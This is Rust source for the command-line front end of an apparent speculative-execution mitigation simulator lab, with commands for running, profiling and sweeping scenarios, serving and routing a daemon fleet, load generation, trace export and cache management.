        .ok_or_else(|| "run-file expects a path (e.g. `lab run-file gadget.s`)".to_string())?;
    let policy = MitigationPolicy::from_label(&args.policy)
        .ok_or_else(|| format!("unknown policy `{}` (see the sweep tables)", args.policy))?;
    let (label, kind, text) = load_source(path)?;
    // Build once up front so parse errors carry the source diagnostics
    // instead of surfacing as a failed job row.
    let spec = ProgramSpec::Source { label: label.clone(), kind, text };
    let program = Arc::new(spec.build()?);
    let scenario = adhoc_scenario(&label, program, policy, PlatformOverrides::default(), None);
    let opts = ExecOptions { threads: 1, verbose: !args.quiet };
    let report = run_sweep(&scenario.name, std::slice::from_ref(&scenario), opts);
    print!("{}", report.to_json());
    Ok(())
}

fn cmd_analyze(args: &Args) -> Result<(), String> {
    let program = args
        .positional
        .first()
        .ok_or_else(|| "analyze expects a program name (e.g. `lab analyze gemm`)".to_string())?;
    let report = if looks_like_path(program) {
        let (label, kind, text) = load_source(program)?;
        let built = ProgramSpec::Source { label: label.clone(), kind, text }.build()?;
        analyze_built(&label, &built)?
    } else {
        analyze_program(program, args.size)?
    };
    if args.json {
        print!("{}", report.to_json());
    } else if args.dot {
        print!("{}", report.to_dot());
    } else {
        print!("{report}");
    }
    Ok(())
}

/// `lab profile`: the deterministic hot-path profile of one program —
/// per-phase cycle attribution plus speculation events, with an optional
/// Chrome-trace export for chrome://tracing / ui.perfetto.dev.
fn cmd_profile(args: &Args) -> Result<(), String> {
    let label = args
        .positional
        .first()
        .ok_or_else(|| "profile expects a program (e.g. `lab profile spectre_v1`)".to_string())?;
    let policy = MitigationPolicy::from_label(&args.policy)
        .ok_or_else(|| format!("unknown policy `{}` (see the sweep tables)", args.policy))?;
    let output = profile_program(label, policy, args.size)?;
    if let Some(path) = &args.trace {
        std::fs::write(path, &output.chrome_trace)
            .map_err(|e| format!("cannot write {path}: {e}"))?;
        if !args.quiet {
            eprintln!("[profile] wrote {path} (open in chrome://tracing or ui.perfetto.dev)");
        }
    }
    if args.json {
        print!("{}", output.report.to_json());
    } else {
        print!("{}", output.report.to_text());
    }
    Ok(())
}

/// `lab bench`: simulator-throughput microbenchmark over every registry
/// workload. The cycle/instruction columns are deterministic; the
/// wall-clock throughput members live on their own lines so CI can diff
/// the artifact with those lines excluded.
fn cmd_bench(args: &Args) -> Result<(), String> {
    let report = run_bench(args.size)?;
    let json = report.to_json();
    match &args.json_dir {
        Some(dir) => {
            let path = format!("{dir}/BENCH_sim-throughput.json");
            std::fs::write(&path, &json).map_err(|e| format!("cannot write {path}: {e}"))?;
            if !args.quiet {
                eprintln!("[bench] wrote {path}");
            }
        }
        None => print!("{json}"),
    }
    Ok(())
}

fn cmd_serve(args: &Args) -> Result<(), String> {
    let addr = args.addr.as_deref().unwrap_or(DEFAULT_ADDR);
    let daemon =
        Arc::new(LabDaemon::with_cache_dir(args.size, args.threads, args.cache_dir.as_deref())?);
    let config = ServerConfig {
        workers: args.workers,
        queue_depth: args.queue_depth,
        cache_dir: args.cache_dir.clone(),
        ..ServerConfig::default()
    };
    let (workers, queue_depth) = (config.workers, config.queue_depth);
    let handle =
        dbt_serve::serve(addr, daemon, config).map_err(|e| format!("cannot bind `{addr}`: {e}"))?;
    // The listening line goes to stdout so scripts can capture the bound
    // (possibly ephemeral) port.
    println!(
        "[serve] listening on {} ({} workers, queue depth {}, size {:?})",
        handle.addr(),
        workers,
        queue_depth,
        args.size
    );
    if let (Some(dir), false) = (&args.cache_dir, args.quiet) {
        eprintln!("[serve] durable cache at {dir}");
    }
    use std::io::Write;
    std::io::stdout().flush().map_err(|e| e.to_string())?;
    handle.wait();
    if !args.quiet {
        eprintln!("[serve] stopped");
    }
    Ok(())
}

fn cmd_submit(args: &Args) -> Result<(), String> {
    let op = args.positional.first().ok_or_else(|| {
        "submit expects an op (run|profile|sweep|analyze|upload|stats|metrics|health|shutdown)"
            .to_string()
    })?;
    let arg = |what: &str| {
        args.positional
            .get(1)
            .cloned()
            .ok_or_else(|| format!("submit {op} expects a {what} argument"))
    };
    let request = match op.as_str() {
        // A ref-shaped argument (scheme prefix) runs an ad-hoc program
        // under --policy; anything else is a scenario name as before.
        "run" => {
            let target = arg("scenario name or program ref")?;
            if target.starts_with("registry:") || target.starts_with("fp:") {
                Request::RunProgram {
                    program: target,
                    policy: args.policy.clone(),
                    knobs: RunKnobs::default(),
                }
            } else {
                Request::Run { scenario: target }
            }
        }
        "sweep" => Request::Sweep { name: arg("sweep name")?, threads: args.threads },
        "analyze" => Request::Analyze { program: arg("program name or ref")? },
        "upload" => {
            let (_, kind, text) = load_source(&arg("source file path")?)?;
            let source = match kind {
                SourceKind::Asm => ProgramSource::Asm(text),
                SourceKind::Image => ProgramSource::Image(text),
            };
            Request::Upload { source }
        }
        // Without an argument, `profile` fetches the server's trace log;
        // with one, it profiles the referenced program under --policy.
        "profile" => Request::Profile {
            program: args.positional.get(1).cloned(),
            policy: args.policy.clone(),
        },
        "stats" => Request::Stats,
        "metrics" => Request::Metrics,
        "health" => Request::Health,
        "shutdown" => Request::Shutdown,
        other => return Err(format!("unknown submit op `{other}`")),
    };
    submit_one(args, &request)
}

/// `lab metrics`: scrape a running daemon's (or, with `--via-router`, the
/// whole fleet's merged) Prometheus text exposition.
fn cmd_metrics(args: &Args) -> Result<(), String> {
    submit_one(args, &Request::Metrics)
}

/// Sends one request to the daemon or router that `--addr`/`--via-router`
/// select — carrying the `--auth` bearer token and `--trace-id` (protocol
/// v3) when given — and returns the `ok` body.
fn request_body(args: &Args, request: &Request) -> Result<String, String> {
    let addr = args.addr.as_deref().unwrap_or(if args.via_router {
        DEFAULT_ROUTER_ADDR
    } else {
        DEFAULT_ADDR
    });
    let mut client =
        Client::connect(addr).map_err(|e| format!("cannot connect to `{addr}`: {e}"))?;
    let meta = FrameMeta {
        trace_id: args.trace_id.clone(),
        auth: args.auth.clone(),
        ..FrameMeta::default()
    };
    let (response, _trace) = client.request_meta(request, &meta)?;
    match response {
        Response::Ok { body, .. } => Ok(body),
        Response::Busy { op } => Err(format!("server busy (op `{op}`), try again later")),
        Response::QuotaExceeded { op } => {
            Err(format!("quota exceeded (op `{op}`), back off and retry"))
        }
        Response::Error { error, .. } => Err(error),
    }
}

/// [`request_body`], printed with a trailing newline.
fn submit_one(args: &Args, request: &Request) -> Result<(), String> {
    let body = request_body(args, request)?;
    print!("{body}");
    if !body.ends_with('\n') {
        println!();
    }
    Ok(())
}

/// `lab trace <trace_id>`: fetch the span tree of one traced request —
/// assembled by the daemon, or stitched across router and owning backend
/// with `--via-router` — and optionally export it as Chrome trace_event
/// JSON (`--chrome`).
fn cmd_trace(args: &Args) -> Result<(), String> {
    let target = args.positional.first().ok_or_else(|| {
        "trace expects a trace id (e.g. `lab submit run ... --trace-id job-1`, \
         then `lab trace job-1`)"
            .to_string()
    })?;
    let body = request_body(args, &Request::Trace { target: target.clone() })?;
    if let Some(path) = &args.chrome {
        let chrome = chrome_trace_json(&body)?;
        std::fs::write(path, &chrome).map_err(|e| format!("cannot write {path}: {e}"))?;
        if !args.quiet {
            eprintln!("[trace] wrote {path} (open in chrome://tracing or ui.perfetto.dev)");
        }
    }
    println!("{body}");
    Ok(())
}

/// `lab logs`: fetch the structured event log of the daemon (or of the
/// router with `--via-router`), filtered to `--level` and above.
fn cmd_logs(args: &Args) -> Result<(), String> {
    submit_one(args, &Request::Logs { level: args.level.clone() })
}

/// Converts a `dbt-serve/trace/v1` tree body into Chrome `trace_event`
/// JSON: one complete ("X") event per span, grouped into one track per
/// span-id prefix (`r` = router, `d` = daemon). The wall-clock members
/// are emitted adjacent and unspaced (`"ts":N,"dur":N`) so determinism
/// checks can strip them with a single substitution; everything else in
/// the export is structural.
fn chrome_trace_json(tree: &str) -> Result<String, String> {
    let value = JsonValue::parse(tree)?;
    let trace_id = value.get("trace_id").and_then(JsonValue::as_str).unwrap_or("?");
    let spans = value
        .get("spans")
        .and_then(JsonValue::as_array)
        .ok_or_else(|| "trace body lacks a `spans` array".to_string())?;
    let mut tracks: Vec<String> = Vec::new();
    let mut events = Vec::new();
    for span in spans {
        let span_id = span.get("span_id").and_then(JsonValue::as_str).unwrap_or("?");
        let stage = span.get("stage").and_then(JsonValue::as_str).unwrap_or("?");
        let start = span.get("start_micros").and_then(JsonValue::as_u64).unwrap_or(0);
        let duration = span.get("duration_micros").and_then(JsonValue::as_u64).unwrap_or(0);
        let prefix = span_id.split(':').next().unwrap_or("?").to_string();
        let tid = match tracks.iter().position(|known| *known == prefix) {
            Some(position) => position + 1,
            None => {
                tracks.push(prefix.clone());
                tracks.len()
            }
        };
        events.push(format!(
            "{{\"name\": \"{stage}\", \"cat\": \"{prefix}\", \"ph\": \"X\", \"pid\": 1, \
             \"tid\": {tid}, \"ts\":{start},\"dur\":{duration}, \
             \"args\": {{\"span_id\": \"{span_id}\"}}}}"
        ));
    }
    let names: Vec<String> = tracks
        .iter()
        .enumerate()
        .map(|(index, prefix)| {
            format!(
                "{{\"name\": \"thread_name\", \"ph\": \"M\", \"pid\": 1, \"tid\": {}, \
                 \"args\": {{\"name\": \"{prefix}\"}}}}",
                index + 1
            )
        })
        .collect();
    let mut lines = names;
    lines.extend(events);
    Ok(format!(
        "{{\"displayTimeUnit\": \"ms\", \"otherData\": {{\"trace_id\": \"{trace_id}\"}}, \
         \"traceEvents\": [\n{}\n]}}\n",
        lines.join(",\n")
    ))
}

/// The loadgen request mix: repeated single-scenario queries across several
/// policies plus one full sweep, so both the run-summary memo and the
/// translation service see identical work from every client.
fn loadgen_requests(threads: usize) -> Vec<Request> {
    let scenarios = [
        "figure4/gemm/our-approach/default",
        "figure4/gemm/selective/default",
        "figure4/atax/fence/default",
        "attack-table/spectre-v1/selective/default",
    ];
    let mut requests: Vec<Request> =
        scenarios.iter().map(|s| Request::Run { scenario: (*s).to_string() }).collect();
    requests.push(Request::Sweep { name: "ptr-matmul".to_string(), threads });
    requests
}

/// Extracts `path` (e.g. `["lab", "run_memo", "hits"]`) as a u64 from a
/// parsed stats body.
fn stat_u64(stats: &JsonValue, path: &[&str]) -> Result<u64, String> {
    let mut value = stats;
    for key in path {
        value = value.get(key).ok_or_else(|| format!("stats body lacks `{}`", path.join(".")))?;
    }
    value.as_u64().ok_or_else(|| format!("`{}` is not a u64", path.join(".")))
}

fn resolve_addr(addr: &str) -> Result<std::net::SocketAddr, String> {
    use std::net::ToSocketAddrs;
    addr.to_socket_addrs()
        .map_err(|e| format!("cannot resolve `{addr}`: {e}"))?
        .next()
        .ok_or_else(|| format!("`{addr}` resolves to nothing"))
}

/// Hosts one in-process daemon on an ephemeral port with the CLI's
/// size/threads/workers/queue knobs.
fn start_daemon(args: &Args) -> Result<ServerHandle, String> {
    start_daemon_with_cache(args, args.cache_dir.as_deref())
}

/// [`start_daemon`] over an explicit cache directory (`loadgen --restart`
/// relaunches onto a directory that is not necessarily in `Args`).
fn start_daemon_with_cache(args: &Args, cache_dir: Option<&str>) -> Result<ServerHandle, String> {
    let daemon = Arc::new(LabDaemon::with_cache_dir(args.size, args.threads, cache_dir)?);
    let config = ServerConfig {
        workers: args.workers,
        queue_depth: args.queue_depth,
        cache_dir: cache_dir.map(str::to_string),
        ..ServerConfig::default()
    };
    dbt_serve::serve("127.0.0.1:0", daemon, config)
        .map_err(|e| format!("cannot start in-process daemon: {e}"))
}

/// Hosts `n` in-process daemons behind an in-process router (default
/// config: pure relay) — the fleet that `loadgen --fleet` and
/// `router-bench` drive.
fn start_fleet(args: &Args, n: usize) -> Result<(Vec<ServerHandle>, RouterHandle), String> {
    let mut daemons = Vec::with_capacity(n);
    for _ in 0..n {
        daemons.push(start_daemon(args)?);
    }
    let backends = daemons.iter().map(ServerHandle::addr).collect();
    let router = serve_router("127.0.0.1:0", backends, RouterConfig::default())
        .map_err(|e| format!("cannot start in-process router: {e}"))?;
    Ok((daemons, router))
}

fn stop_fleet(daemons: Vec<ServerHandle>, router: RouterHandle) {
    router.shutdown();
    router.wait();
    for daemon in daemons {
        daemon.shutdown();
        daemon.wait();
    }
}

/// `lab router`: front a fleet of already-running daemons (`--backends`)
/// with the consistent-hash router; `--auth`/`--rate`/`--burst` switch on
/// the protocol-v3 enforcement, which is otherwise off (pure relay).
fn cmd_router(args: &Args) -> Result<(), String> {
    let list = args
        .backends
        .as_deref()
        .ok_or_else(|| "router expects --backends host:port[,host:port...]".to_string())?;
    let backends =
        list.split(',').map(|part| resolve_addr(part.trim())).collect::<Result<Vec<_>, _>>()?;
    let quota = match (args.rate, args.burst) {
        (None, None) => None,
        (None, Some(_)) => return Err("--burst needs --rate".to_string()),
        (Some(rate), burst) => {
            Some(QuotaConfig { rate_per_sec: rate, burst: burst.unwrap_or(rate) })
        }
    };
    let config = RouterConfig {
        auth_tokens: args.auth.iter().cloned().collect(),
        quota,
        ..RouterConfig::default()
    };
    let auth = if config.auth_tokens.is_empty() { "off" } else { "on" };
    let enforced = if config.quota.is_some() { "on" } else { "off" };
    let addr = args.addr.as_deref().unwrap_or(DEFAULT_ROUTER_ADDR);
    let handle = serve_router(addr, backends.clone(), config)
        .map_err(|e| format!("cannot bind `{addr}`: {e}"))?;
    // Stdout like `serve`, so scripts can capture the bound port.
    println!(
        "[router] listening on {} over {} backend(s) (auth {auth}, quota {enforced})",
        handle.addr(),
        backends.len(),
    );
    use std::io::Write;
    std::io::stdout().flush().map_err(|e| e.to_string())?;
    handle.wait();
    if !args.quiet {
        eprintln!("[router] stopped");
    }
    Ok(())
}

/// Sums the per-backend `lab` cache counters out of the router's fleet
/// `stats` body (`{"router": ..., "backends": [<daemon stats>, ...]}`).
fn fleet_cache_sums(stats: &JsonValue) -> Result<(u64, u64, u64, u64), String> {
    let members = stats
        .get("backends")
        .and_then(JsonValue::as_array)
        .ok_or_else(|| "fleet stats body lacks a `backends` array".to_string())?;
    let mut sums = (0, 0, 0, 0);
    for member in members {
        sums.0 += stat_u64(member, &["lab", "run_memo", "hits"])?;
        sums.1 += stat_u64(member, &["lab", "run_memo", "misses"])?;
        sums.2 += stat_u64(member, &["lab", "translation", "hits"])?;
        sums.3 += stat_u64(member, &["lab", "translation", "misses"])?;
    }
    Ok(sums)
}

fn cmd_loadgen(args: &Args) -> Result<(), String> {
    if args.restart {
        return cmd_loadgen_restart(args);
    }
    if args.fleet > 0 && args.addr.is_some() {
        return Err("--fleet hosts its own daemons and router; drop --addr".to_string());
    }
    // Without --addr, host an in-process daemon (or, with --fleet N, N
    // daemons behind an in-process router) on ephemeral ports so the
    // artifact can be regenerated with one command and no setup.
    let mut local = None;
    let mut fleet = None;
    let addr = if args.fleet > 0 {
        let (daemons, router) = start_fleet(args, args.fleet)?;
        let addr = router.addr();
        fleet = Some((daemons, router));
        addr
    } else if let Some(addr) = &args.addr {
        resolve_addr(addr)?
    } else {
        let handle = start_daemon(args)?;
        let addr = handle.addr();
        local = Some(handle);
        addr
    };

    let requests = loadgen_requests(args.threads);
    if !args.quiet {
        eprintln!(
            "[loadgen] {} clients x {} iterations x {} requests against {addr}",
            args.clients,
            args.iterations,
            requests.len()
        );
    }
    let outcome = dbt_serve::drive(
        addr,
        &requests,
        LoadOptions { clients: args.clients, iterations: args.iterations },
        &|_, body| strip_stats(body),
    )?;

    let mut client =
        Client::connect(addr).map_err(|e| format!("cannot connect to `{addr}`: {e}"))?;
    let stats = match client.request(&Request::Stats)? {
        Response::Ok { body, .. } => JsonValue::parse(&body)?,
        other => return Err(format!("stats request failed: {other:?}")),
    };
    // The latency snapshot must be taken while the daemon (or fleet) is
    // still up: the slowest request's span tree lives in server-side
    // rings. It is deliberately a separate file from the BENCH artifact,
    // whose bytes stay timing-free.
    if let Some(path) = &args.latency_json {
        let snapshot = latency_snapshot(args, &outcome, &mut client)?;
        std::fs::write(path, &snapshot).map_err(|e| format!("cannot write {path}: {e}"))?;
        if !args.quiet {
            eprintln!("[loadgen] wrote {path} (latency snapshot, not a BENCH artifact)");
        }
    }
    if let Some(handle) = local.take() {
        handle.shutdown();
        handle.wait();
    }
    if let Some((daemons, router)) = fleet.take() {
        stop_fleet(daemons, router);
    }

    // Against a router the stats body is the fleet fan-out; sum the
    // per-backend caches so the report keeps its shape.
    let (memo_hits, memo_misses, translation_hits, translation_misses) =
        if stats.get("router").is_some() {
            fleet_cache_sums(&stats)?
        } else {
            (
                stat_u64(&stats, &["lab", "run_memo", "hits"])?,
                stat_u64(&stats, &["lab", "run_memo", "misses"])?,
                stat_u64(&stats, &["lab", "translation", "hits"])?,
                stat_u64(&stats, &["lab", "translation", "misses"])?,
            )
        };
    let rate = |hits: u64, misses: u64| {
        let total = hits + misses;
        if total == 0 {
            0.0
        } else {
            hits as f64 / total as f64
        }
    };
    let report = format!(
        "{{\n  \"schema\": \"dbt-serve-loadgen/v1\",\n  \"clients\": {},\n  \
         \"iterations\": {},\n  \"requests\": {},\n  \"ok\": {},\n  \"busy\": {},\n  \
         \"errors\": {},\n  \"mismatches\": {},\n  \"elapsed_ms\": {},\n  \
         \"requests_per_sec\": {:.1},\n  \"run_memo\": {{\"hits\": {}, \"misses\": {}, \
         \"hit_rate\": {:.6}}},\n  \"translation\": {{\"hits\": {}, \"misses\": {}, \
         \"hit_rate\": {:.6}}}\n}}\n",
        args.clients,
        args.iterations,
        outcome.requests,
        outcome.ok,
        outcome.busy,
        outcome.errors,
        outcome.mismatches,
        outcome.elapsed.as_millis(),
        outcome.requests_per_sec(),
        memo_hits,
        memo_misses,
        rate(memo_hits, memo_misses),
        translation_hits,
        translation_misses,
        rate(translation_hits, translation_misses),
    );
    match &args.json_dir {
        Some(dir) => {
            let path = format!("{dir}/BENCH_serve-throughput.json");
            std::fs::write(&path, &report).map_err(|e| format!("cannot write {path}: {e}"))?;
            if !args.quiet {
                eprintln!("[loadgen] wrote {path}");
            }
        }
        None => print!("{report}"),
    }
    if outcome.mismatches > 0 {
        return Err(format!(
            "{} responses diverged from the first answer to the same request",
            outcome.mismatches
        ));
    }
    if outcome.errors > 0 {
        return Err(format!("{} requests failed", outcome.errors));
    }
    if !args.quiet {
        eprintln!(
            "[loadgen] {} ok / {} busy in {:?}; run-memo hit rate {:.1}%, translation {:.1}%",
            outcome.ok,
            outcome.busy,
            outcome.elapsed,
            100.0 * rate(memo_hits, memo_misses),
            100.0 * rate(translation_hits, translation_misses)
        );
        // Per-op client-observed latency percentiles (deterministic bucket
        // upper bounds) and busy rate. Operator output only: this never
        // enters the BENCH artifact, whose bytes stay timing-free.
        for op in &outcome.per_op {
            eprintln!(
                "[loadgen] {}: {} requests, p50={}us p95={}us p99={}us, busy {:.1}%",
                op.op,
                op.requests,
                op.p50_micros,
                op.p95_micros,
                op.p99_micros,
                100.0 * op.busy_rate()
            );
        }
    }
    Ok(())
}

/// What one `loadgen --restart` phase measured.
struct RestartPhase {
    memo_hits: u64,
    memo_misses: u64,
    persist_hits: u64,
    persist_misses: u64,
    persist_writes: u64,
    /// Probe bodies (one per mix request, asked of the *fresh* daemon
    /// before the load), stripped of their `stats` blocks for cross-phase
    /// byte comparison.
    probes: Vec<String>,
    /// Probe bodies whose `stats` block recorded any simulation — the
    /// cold daemon simulates its first answers, a warm restart must not.
    probes_simulated: usize,
}

impl RestartPhase {
    fn memo_rate(&self) -> f64 {
        let total = self.memo_hits + self.memo_misses;
        if total == 0 {
            0.0
        } else {
            self.memo_hits as f64 / total as f64
        }
    }
}

/// One `--restart` phase: launch a fresh daemon on `dir`, probe every mix
/// request once (capturing the fresh daemon's answers), drive the full
/// load, snapshot the stats, and tear the daemon down.
fn restart_phase(args: &Args, dir: &str) -> Result<RestartPhase, String> {
    let handle = start_daemon_with_cache(args, Some(dir))?;
    let addr = handle.addr();
    let requests = loadgen_requests(args.threads);
    let mut client =
        Client::connect(addr).map_err(|e| format!("cannot connect to `{addr}`: {e}"))?;
    let mut probes = Vec::with_capacity(requests.len());
    let mut probes_simulated = 0;
    for request in &requests {
        let body = match client.request(request)? {
            Response::Ok { body, .. } => body,
            other => return Err(format!("restart probe failed: {other:?}")),
        };
        if !body.contains("\"simulations\": 0") {
            probes_simulated += 1;
        }
        probes.push(strip_stats(&body));
    }
    let outcome = dbt_serve::drive(
        addr,
        &requests,
        LoadOptions { clients: args.clients, iterations: args.iterations },
        &|_, body| strip_stats(body),
    )?;
    let stats = match client.request(&Request::Stats)? {
        Response::Ok { body, .. } => JsonValue::parse(&body)?,
        other => return Err(format!("stats request failed: {other:?}")),
    };
    handle.shutdown();
    handle.wait();
    if outcome.errors > 0 || outcome.mismatches > 0 {
        return Err(format!(
            "restart phase: {} errors, {} mismatches",
            outcome.errors, outcome.mismatches
        ));
    }
    Ok(RestartPhase {
        memo_hits: stat_u64(&stats, &["lab", "run_memo", "hits"])?,
        memo_misses: stat_u64(&stats, &["lab", "run_memo", "misses"])?,
        persist_hits: stat_u64(&stats, &["lab", "persist", "hits"])?,
        persist_misses: stat_u64(&stats, &["lab", "persist", "misses"])?,
        persist_writes: stat_u64(&stats, &["lab", "persist", "writes"])?,
        probes,
        probes_simulated,
    })
}

/// `lab loadgen --restart`: the warm-restart equivalence check. Runs the
/// whole loadgen mix against a cold daemon over a durable cache dir,
/// tears the daemon down, relaunches onto the same directory, and runs
/// the mix again. The summary is stderr-only — this mode never writes
/// BENCH files — and the command fails if any warm answer diverges from
/// its cold counterpart or the warm daemon simulated a fresh probe.
fn cmd_loadgen_restart(args: &Args) -> Result<(), String> {
    if args.addr.is_some() || args.fleet > 0 {
        return Err("--restart owns its daemon; drop --addr/--fleet".to_string());
    }
    if args.json_dir.is_some() {
        return Err("--restart writes no BENCH files; drop --json-dir".to_string());
    }
    let (dir, ephemeral) = match &args.cache_dir {
        Some(dir) => (dir.clone(), false),
        None => {
            let dir = std::env::temp_dir()
                .join(format!("dbt-lab-loadgen-restart-{}", std::process::id()));
            let _ = std::fs::remove_dir_all(&dir);
            (dir.display().to_string(), true)
        }
    };
    if !args.quiet {
        eprintln!(
            "[loadgen] restart: {} clients x {} iterations, cache dir {dir}",
            args.clients, args.iterations
        );
    }
    let cold = restart_phase(args, &dir)?;
    let warm = restart_phase(args, &dir)?;
    if ephemeral {
        let _ = std::fs::remove_dir_all(&dir);
    }
    let identical = cold.probes == warm.probes;
    // The summary is the artifact here; print it even under --quiet.
    eprintln!(
        "[loadgen] restart phase cold: run-memo hit rate {:.1}%, \
         persist {} hits / {} misses / {} writes",
        100.0 * cold.memo_rate(),
        cold.persist_hits,
        cold.persist_misses,
        cold.persist_writes,
    );
    eprintln!(
        "[loadgen] restart phase warm: run-memo hit rate {:.1}%, \
         persist {} hits / {} misses / {} writes",
        100.0 * warm.memo_rate(),
        warm.persist_hits,
        warm.persist_misses,
        warm.persist_writes,
    );
    eprintln!(
        "[loadgen] restart: warm probe simulations {} of {}; responses identical: {}",
        warm.probes_simulated,
        warm.probes.len(),
        identical
    );
    if !identical {
        return Err("warm-restart responses diverged from the cold daemon's".to_string());
    }
    if warm.probes_simulated > 0 {
        return Err(format!(
            "{} warm probes simulated despite the warm cache dir",
            warm.probes_simulated
        ));
    }
    Ok(())
}

/// The `--latency-json` body: per-op percentiles plus the span tree of
/// the slowest request of each op, fetched through the `trace` op (the
/// router stitches its own spans with the owning backend's).
fn latency_snapshot(
    args: &Args,
    outcome: &dbt_serve::LoadOutcome,
    client: &mut Client,
) -> Result<String, String> {
    let ops: Vec<String> = outcome
        .per_op
        .iter()
        .map(|op| {
            let tree = if op.slowest_trace.is_empty() {
                None
            } else {
                match client.request(&Request::Trace { target: op.slowest_trace.clone() }) {
                    Ok(Response::Ok { body, .. }) => Some(body),
                    _ => None,
                }
            };
            format!(
                "    {{\n      \"op\": \"{}\",\n      \"requests\": {},\n      \"busy\": {},\n      \
                 \"p50_micros\": {},\n      \"p95_micros\": {},\n      \"p99_micros\": {},\n      \
                 \"slowest_micros\": {},\n      \"slowest_trace\": \"{}\",\n      \
                 \"slowest_tree\": {}\n    }}",
                op.op,
                op.requests,
                op.busy,
                op.p50_micros,
                op.p95_micros,
                op.p99_micros,
                op.slowest_micros,
                op.slowest_trace,
                tree.as_deref().unwrap_or("null"),
            )
        })
        .collect();
    Ok(format!(
        "{{\n  \"schema\": \"dbt-serve-loadgen/latency/v1\",\n  \"clients\": {},\n  \
         \"iterations\": {},\n  \"ops\": [\n{}\n  ]\n}}\n",
        args.clients,
        args.iterations,
        ops.join(",\n")
    ))
}

/// `lab router-bench`: the loadgen mix through an in-process router at
/// 1, 2 and 4 in-process backends. Everything but the wall-clock members
/// is deterministic — shard assignment hashes backend *indices*, so the
/// per-backend `forwarded` counts are stable run over run and CI diffs
/// the artifact with the `elapsed_ms`/`requests_per_sec` lines excluded.
fn cmd_router_bench(args: &Args) -> Result<(), String> {
    let requests = loadgen_requests(args.threads);
    let mut runs = Vec::new();
    for fleet_size in [1usize, 2, 4] {
        if !args.quiet {
            eprintln!(
                "[router-bench] {} backend(s): {} clients x {} iterations x {} requests",
                fleet_size,
                args.clients,
                args.iterations,
                requests.len()
            );
        }
        let (daemons, router) = start_fleet(args, fleet_size)?;
        let addr = router.addr();
        let outcome = dbt_serve::drive(
            addr,
            &requests,
            LoadOptions { clients: args.clients, iterations: args.iterations },
            &|_, body| strip_stats(body),
        )?;
        let mut client =
            Client::connect(addr).map_err(|e| format!("cannot connect to `{addr}`: {e}"))?;
        let stats = match client.request(&Request::Stats)? {
            Response::Ok { body, .. } => JsonValue::parse(&body)?,
            other => return Err(format!("stats request failed: {other:?}")),
        };
        let forwarded = stats
            .get("router")
            .and_then(|router| router.get("forwarded"))
            .and_then(JsonValue::as_array)
            .ok_or_else(|| "router stats lack `router.forwarded`".to_string())?
            .iter()
            .map(|count| count.as_u64().ok_or_else(|| "`forwarded` holds a non-u64".to_string()))
            .collect::<Result<Vec<u64>, String>>()?;
        stop_fleet(daemons, router);
        if outcome.errors > 0 || outcome.mismatches > 0 {
            return Err(format!(
                "run with {fleet_size} backend(s): {} errors, {} mismatches",
                outcome.errors, outcome.mismatches
            ));
        }
        let served: Vec<String> = forwarded.iter().map(u64::to_string).collect();
        // `forwarded` counts frames the router relayed per backend: the
        // loadgen mix plus exactly one `stats` fan-out frame each.
        runs.push(format!(
            "    {{\n      \"backends\": {},\n      \"requests\": {},\n      \"ok\": {},\n      \
             \"busy\": {},\n      \"errors\": {},\n      \"mismatches\": {},\n      \
             \"forwarded\": [{}],\n      \"elapsed_ms\": {},\n      \
             \"requests_per_sec\": {:.1}\n    }}",
            fleet_size,
            outcome.requests,
            outcome.ok,
            outcome.busy,
            outcome.errors,
            outcome.mismatches,
            served.join(", "),
            outcome.elapsed.as_millis(),
            outcome.requests_per_sec(),
        ));
    }
    let report = format!(
        "{{\n  \"schema\": \"dbt-router/scaling/v1\",\n  \"clients\": {},\n  \
         \"iterations\": {},\n  \"request_mix\": {},\n  \"runs\": [\n{}\n  ]\n}}\n",
        args.clients,
        args.iterations,
        requests.len(),
        runs.join(",\n"),
    );
    match &args.json_dir {
        Some(dir) => {
            let path = format!("{dir}/BENCH_router-scaling.json");
            std::fs::write(&path, &report).map_err(|e| format!("cannot write {path}: {e}"))?;
            if !args.quiet {
                eprintln!("[router-bench] wrote {path}");
            }
        }
        None => print!("{report}"),
    }
    Ok(())
}

/// `lab cache stats|gc|clear`: operate on a durable cache directory
/// directly, without a daemon. `stats` scans the directory (the counter
/// members are zero — counters are per-daemon-lifetime); `gc` evicts
/// least-recently-used entries down to `--budget` bytes; `clear` removes
/// every entry and quarantined file. All three print one JSON line.
fn cmd_cache(args: &Args) -> Result<(), String> {
    let action = args
        .positional
        .first()
        .map(String::as_str)
        .ok_or_else(|| "cache expects an action (stats|gc|clear)".to_string())?;
    let dir =
        args.cache_dir.as_deref().ok_or_else(|| "cache expects --cache-dir DIR".to_string())?;
    let store = dbt_persist::PersistStore::open(dir)
        .map_err(|e| format!("cannot open cache dir `{dir}`: {e}"))?;
    match action {
        "stats" => println!("{}", store.stats().to_json()),
        "gc" => {
            let budget =
                args.budget.ok_or_else(|| "cache gc expects --budget BYTES".to_string())?;
            println!("{}", store.gc(budget).to_json());
        }
        "clear" => {
            let removed = store.clear().map_err(|e| format!("cannot clear `{dir}`: {e}"))?;
            println!("{{\"removed\": {removed}}}");
        }
        other => return Err(format!("unknown cache action `{other}` (stats|gc|clear)")),
    }
    Ok(())
}

fn main() -> ExitCode {
    let raw: Vec<String> = std::env::args().skip(1).collect();
    let args = match parse(&raw) {
        Ok(args) => args,
        Err(e) => {
            eprintln!("error: {e}\n\n{}", usage());
            return ExitCode::FAILURE;
        }
    };
    let registry = Registry::standard(args.size);
    let result = match args.command.as_str() {
        "list" => {
            cmd_list(&registry);
            Ok(())
        }
        "run" => cmd_run(&registry, &args),
        "run-file" => cmd_run_file(&args),
        "sweep" => cmd_sweep(&registry, &args),
        "profile" => cmd_profile(&args),
        "bench" => cmd_bench(&args),
        "analyze" => cmd_analyze(&args),
        "serve" => cmd_serve(&args),
        "submit" => cmd_submit(&args),
        "metrics" => cmd_metrics(&args),
        "trace" => cmd_trace(&args),
        "logs" => cmd_logs(&args),
        "loadgen" => cmd_loadgen(&args),
        "router" => cmd_router(&args),
        "router-bench" => cmd_router_bench(&args),
        "cache" => cmd_cache(&args),
        other => Err(format!("unknown command `{other}`\n\n{}", usage())),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
