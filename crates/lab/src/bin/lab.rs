//! The `lab` CLI: list, run and sweep the declared scenarios.
//!
//! ```sh
//! cargo run --release -p dbt-lab -- list
//! cargo run --release -p dbt-lab -- run figure4/gemm/our-approach/default
//! cargo run --release -p dbt-lab -- sweep                 # every sweep
//! cargo run --release -p dbt-lab -- sweep figure4 --size small --threads 8
